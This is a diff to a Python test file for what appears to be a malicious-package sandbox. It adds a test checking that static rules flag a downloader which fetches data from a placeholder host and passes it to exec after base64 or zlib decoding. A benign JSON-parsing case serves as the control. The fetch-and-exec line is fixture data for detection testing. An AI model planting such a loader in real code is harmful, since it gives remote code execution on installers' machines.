@@ -6,11 +6,16 @@ from __future__ import annotations
 
 import base64
 import random
+import time
+from pathlib import Path
 
 import pytest
 
+from sandbox.judge.profiles import load_profile
+from sandbox.judge.report import judge, with_static_opinion
 from sandbox.judge.rules import evaluate
-from sandbox.models import EventKind, Severity
+from sandbox.models import EventKind, Report, Severity, Verdict
+from tests.fixtures.builders import Randomised, build_wheel
 from tests.unit.test_accounted import _get, _https, _name
 from tests.unit.test_rules import ev, obs
 from tests.unit.test_stage import _capture, _events, _stage
@@ -64,3 +69,44 @@ def test_writing_the_answer_to_a_file_is_not_running_it() -> None:
     )
     sev = {f.rule_id: f.severity for f in fs}
     assert "PS013" not in sev and sev["PS002"] is Severity.LOW, sev
+
+
+def _fed_report(tmp_path: Path, src: str) -> tuple[Report, Path]:
+    r = Randomised()
+    host, stage, name = _name(), _stage(), r.name("dl")
+    whl = build_wheel(tmp_path, name, "1.0", {f"{name}/__init__.py": src.replace("HOST", host)})
+    get = _get(host, target=f"/{r.name('v')}/latest").model_copy(update={"staged": True})
+    report = judge(
+        obs(_events()),
+        target=str(whl),
+        started=time.time(),
+        image=None,
+        staged=None,
+        profile=load_profile("default"),
+        hostname="laptop-381",
+        network=_capture(host, stage, _https(host, get)),
+    )
+    return report, whl
+
+
+def test_a_downloader_that_decodes_its_answer_is_not_cleared_by_the_bait(tmp_path: Path) -> None:
+    """exec(b64decode(urlopen(u).read())) fails on the bait and never runs it: the run
+    alone looks like a library that parsed a data file (every finding LOW, clean).  Its
+    sources match the static decode-then-exec rules: the bait's word does not hold."""
+    decode = random.choice(["base64.b64decode(data)", "zlib.decompress(base64.b64decode(data))"])
+    src = (
+        "import base64, zlib, urllib.request\n"
+        "data = urllib.request.urlopen('https://HOST/v1/latest').read()\n"
+        f"exec({decode})\n"
+    )
+    report, whl = _fed_report(tmp_path, src)
+    assert report.verdict is Verdict.CLEAN  # what the run alone shows
+    judged = with_static_opinion(report, whl, load_profile("default"))
+    sev = {f.rule_id: f.severity for f in judged.findings}
+    assert judged.verdict is Verdict.SUSPICIOUS, sev
+    assert sev["PS002"] is Severity.MEDIUM and sev["PS040"] is Severity.MEDIUM
+    # a library that parses what it downloads keeps the bait's LOW
+    src = "import json, urllib.request\nPRICES = json.loads(urllib.request.urlopen('https://HOST/p.json').read())\n"
+    (tmp_path / "lib").mkdir()
+    report, whl = _fed_report(tmp_path / "lib", src)
+    assert with_static_opinion(report, whl, load_profile("default")).verdict is Verdict.CLEAN
